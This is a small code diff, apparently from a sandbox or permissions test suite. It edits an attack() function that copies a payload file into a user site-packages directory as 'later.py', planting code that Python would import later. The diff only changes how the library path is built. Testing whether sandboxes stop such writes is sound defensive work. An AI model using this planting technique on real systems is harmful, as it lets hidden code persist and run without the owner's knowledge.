@@ -7,14 +7,12 @@ GRANT = {"run": False}
 
 import os
 import shutil
-import sys
 
 from . import payload
 
 
 def attack():
-    version = "python%d.%d" % sys.version_info[:2]
-    path = payload.ROOT + f"/tmp/.local/lib/{version}/site-packages"
+    path = payload.ROOT + f"/tmp/.local/lib/{payload.LIBRARY}/site-packages"
     os.makedirs(path)
     shutil.copy(os.path.dirname(__file__) + "/payload.py",
                 path + "/later.py")
